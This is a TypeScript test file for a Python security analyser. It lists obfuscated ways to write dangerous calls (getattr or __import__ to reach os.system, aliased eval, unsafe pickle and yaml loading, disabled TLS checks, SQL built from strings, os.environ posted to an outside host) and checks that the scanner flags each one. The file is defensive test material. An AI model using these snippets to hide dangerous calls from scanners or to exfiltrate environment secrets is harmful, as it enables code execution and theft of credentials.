import { assert } from "@std/assert";
import { analyse } from "../../../workers/analysis/audit/mod.ts";
import type { RawFinding } from "../../../workers/analysis/finding.ts";
import { analyseHere } from "../../helpers/analysis.ts";

/**
 * Ways to write a dangerous call that common tools of the trade do not see: what it is, the source,
 * the rule that must be found on its last line.
 */
const EVASIONS: [string, string, RegExp][] = [
  ["getattr", "import os\ngetattr(os, 'system')(x)", /^py\/hidden-call$/],
  ["getattr in parts", "import os\nNAME = 'system'\ngetattr(os, NAME)(x)", /^py\/hidden-call$/],
  ["__import__", "__import__('os').system(x)", /^py\/hidden-call$/],
  [
    "import_module",
    "import importlib\nimportlib.import_module('os').system(x)",
    /^py\/hidden-call$/,
  ],
  ["globals()", "globals()['eval'](x)", /^py\/hidden-call$/],
  ["__builtins__", "__builtins__.__dict__['exec'](x)", /^py\/hidden-call$/],
  ["builtins.eval", "import builtins\nbuiltins.eval(x)", /^(S307|py\/)/],
  ["an alias of eval", "e = eval\ne(x)", /^py\/aliased-call$/],
  ["an alias of os.system", "import os\nf = os.system\nf(x)", /^py\/aliased-call$/],
  [
    "functools.partial",
    "import functools, os\nrun = functools.partial(os.system)\nrun(x)",
    /^py\/aliased-call$/,
  ],
  ["a star import", "from os import *\nsystem(x)", /^py\/aliased-call$/],
  [
    "an asynchronous shell",
    "import asyncio\nasyncio.create_subprocess_shell(x)",
    /^py\/async-shell$/,
  ],
  ["compile", "compile(x, 'f', 'exec')", /^py\/compile$/],
  ["joblib", "import joblib\njoblib.load(x)", /^py\/unsafe-pickle$/],
  ["numpy", "import numpy as np\nnp.load(x, allow_pickle=True)", /^py\/unsafe-pickle$/],
  ["pandas", "import pandas as pd\npd.read_pickle(x)", /^py\/unsafe-pickle$|^S301$/],
  ["yaml.unsafe_load", "import yaml\nyaml.unsafe_load(x)", /^py\/unsafe-yaml$/],
  ["yaml.full_load", "import yaml\nyaml.full_load(x)", /^py\/unsafe-yaml$/],
  [
    "a Jinja template",
    "from jinja2 import Template\nTemplate(x).render()",
    /^py\/template-from-text$/,
  ],
  [
    "an unverified token",
    "import jwt\njwt.decode(t, options={'verify_signature': False})",
    /^py\/jwt-unverified$/,
  ],
  ["check_hostname", "import ssl\nctx.check_hostname = False", /^py\/tls-unverified$/],
  ["CERT_NONE", "import ssl\nctx.verify_mode = ssl.CERT_NONE", /^py\/tls-unverified$/],
  ["unpack_archive", "import shutil\nshutil.unpack_archive(x)", /^py\/unpack-archive$/],
  [
    "a path of the caller",
    "@mcp.tool()\ndef t(p: str):\n    return open('/data/' + p).read()",
    /^py\/tool-to-file$/,
  ],
  [
    "an address of the caller",
    "import requests\n@mcp.tool()\ndef t(u: str):\n    return requests.get(u, timeout=1)",
    /^py\/tool-to-request$/,
  ],
  [
    "the environment sent away",
    "import os, requests\nrequests.post('https://a.b', json=dict(os.environ), timeout=1)",
    /^py\/environment-sent$/,
  ],
  [
    "a query over several lines",
    'q = f"""\nselect *\nfrom t where a = {x}"""',
    /^(S608|py\/sql-text)$/,
  ],
  [
    "a query with %",
    `q = "INSERT INTO foo VALUES('a','b','%s')" % v`,
    /^(S608|py\/sql-text)$/,
  ],
  [
    "a query by replace",
    "q = 'select a from t where b = X'.replace('X', v)",
    /^(S608|py\/sql-text)$/,
  ],
  ["a computed table", "q = f'INSERT INTO {t} VALUES(1)'", /^(S608|py\/sql-text)$/],
  [
    "old TLS by pyOpenSSL",
    "from OpenSSL import SSL\nSSL.Context(method=SSL.SSLv3_METHOD)",
    /^py\/old-tls$|^S502$/,
  ],
  [
    "paramiko on any client",
    "import paramiko\nself.client.exec_command(x)",
    /^py\/remote-command$|^S601$/,
  ],
  [
    "weak ciphers of cryptography",
    "from cryptography.hazmat.primitives.ciphers import algorithms\nalgorithms.TripleDES(k)",
    /^py\/weak-cipher$|^S304$/,
  ],
  ["torch.load", "import torch\ntorch.load(x)", /^py\/model-loading$/],
  [
    "a model without a revision",
    "from transformers import AutoModel\nAutoModel.from_pretrained('a/b')",
    /^py\/unpinned-model$/,
  ],
  [
    "httpoxy",
    "from wsgiref.handlers import CGIHandler\nCGIHandler().run(app)",
    /^(S412|py\/cgi-handler)$/,
  ],
  [
    "a module by a computed name",
    "import importlib\nimportlib.import_module(x)",
    /^py\/dynamic-import$/,
  ],
  ["a suppression", "import os\nos.system(x)  # nosec # noqa", /^S605$/],
];

for (const [what, source, rule] of EVASIONS) {
  Deno.test(`audit of Python is not evaded by ${what}`, async () => {
    const { result } = await analyseHere<{ code: RawFinding[] }>(analyse, { "server.py": source });
    const last = source.split("\n").length;
    const there = result.code.filter(({ line, end_line }) => line <= last && end_line >= last - 2);
    const found = there.map(({ rule, severity }) => `${rule} ${severity}`).join(", ");
    assert(there.some((each) => rule.test(each.rule) && each.severity !== "info"), found);
  });
}
